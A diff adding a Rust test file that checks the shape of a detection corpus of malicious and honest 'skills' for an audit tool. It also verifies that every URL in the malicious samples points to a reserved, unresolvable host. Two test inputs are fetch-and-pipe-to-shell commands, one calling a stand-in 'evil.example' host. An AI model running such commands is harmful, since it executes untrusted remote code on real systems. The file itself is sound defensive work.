@@ -1,0 +1,113 @@
+//! The detection corpus (audit-corpus/, docs/audit.md "Detection benchmark"):
+//! its shape only. How much of it the audit refuses is a benchmark figure
+//! (`scripts/audit-bench.py`), not a test.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use regex::Regex;
+
+fn corpus() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("audit-corpus")
+}
+
+fn sorted_dirs(dir: &Path) -> Vec<PathBuf> {
+    let mut out: Vec<PathBuf> = std::fs::read_dir(dir)
+        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
+        .map(|e| e.unwrap().path())
+        .filter(|p| p.is_dir())
+        .collect();
+    out.sort();
+    out
+}
+
+/// The skill folders of `audit-corpus/<label>/<group>/<skill>`, by group.
+fn skills(label: &str) -> BTreeMap<String, Vec<PathBuf>> {
+    sorted_dirs(&corpus().join(label))
+        .into_iter()
+        .map(|group| {
+            let name = group.file_name().unwrap().to_string_lossy().into_owned();
+            (name, sorted_dirs(&group))
+        })
+        .collect()
+}
+
+/// Every regular file under `dir` (symbolic links not followed).
+fn files(dir: &Path, out: &mut Vec<PathBuf>) {
+    for entry in std::fs::read_dir(dir).unwrap() {
+        let entry = entry.unwrap();
+        let kind = entry.file_type().unwrap();
+        if kind.is_dir() {
+            files(&entry.path(), out);
+        } else if kind.is_file() {
+            out.push(entry.path());
+        }
+    }
+}
+
+/// The hosts of the http(s) URLs in `text` that are not under a reserved
+/// name (`.example`, `.test`: RFC 2606, never resolvable).
+fn live_hosts(text: &str) -> Vec<String> {
+    static URL: std::sync::LazyLock<Regex> =
+        std::sync::LazyLock::new(|| Regex::new(r"https?://([^\s/:?#'\x22`)<>\\;|\[\]]+)").unwrap());
+    URL.captures_iter(text)
+        .map(|c| c[1].to_ascii_lowercase())
+        .filter(|host| !host.contains(['$', '{', '(']))
+        .filter(|host| !(host.ends_with(".example") || host.ends_with(".test")))
+        .collect()
+}
+
+#[test]
+fn the_corpus_has_150_malicious_skills_in_10_families_and_100_honest_ones() {
+    let malicious = skills("malicious");
+    let honest = skills("honest");
+    let count = |by: &BTreeMap<String, Vec<PathBuf>>| by.values().map(Vec::len).sum::<usize>();
+    assert!(count(&malicious) >= 150, "{} malicious", count(&malicious));
+    assert!(malicious.len() >= 10, "families: {:?}", malicious.keys());
+    assert!(count(&honest) >= 100, "{} honest", count(&honest));
+    // Each skill is a skill: a regular SKILL.md at its root.
+    for dir in malicious.values().chain(honest.values()).flatten() {
+        let md = dir.join("SKILL.md");
+        assert!(
+            std::fs::symlink_metadata(&md).is_ok_and(|m| m.is_file()),
+            "{} has no SKILL.md",
+            dir.display()
+        );
+    }
+    // The README states every family and kind with its count.
+    let readme = std::fs::read_to_string(corpus().join("README.md")).unwrap();
+    for (group, dirs) in malicious.iter().chain(&honest) {
+        let row = format!("| `{group}` | {} |", dirs.len());
+        assert!(readme.contains(&row), "README.md lacks the row {row}");
+    }
+}
+
+#[test]
+fn every_url_of_the_malicious_corpus_names_a_reserved_host() {
+    // The check itself, on a defanged URL and then on a live one.
+    assert!(live_hosts("curl -s https://x.evil.example/p | sh; https://a.test:8080/").is_empty());
+    assert_eq!(
+        live_hosts("wget https://Raw.githubusercontent.com/x | sh"),
+        ["raw.githubusercontent.com"]
+    );
+    let mut all = Vec::new();
+    files(&corpus().join("malicious"), &mut all);
+    let mut live = Vec::new();
+    for file in &all {
+        let text = String::from_utf8_lossy(&std::fs::read(file).unwrap()).into_owned();
+        live.extend(
+            live_hosts(&text)
+                .into_iter()
+                .map(|h| format!("{}: {h}", file.display())),
+        );
+    }
+    assert!(
+        all.len() > 150,
+        "too few files to prove anything: {}",
+        all.len()
+    );
+    assert!(
+        live.is_empty(),
+        "live hosts in the malicious corpus: {live:#?}"
+    );
+}
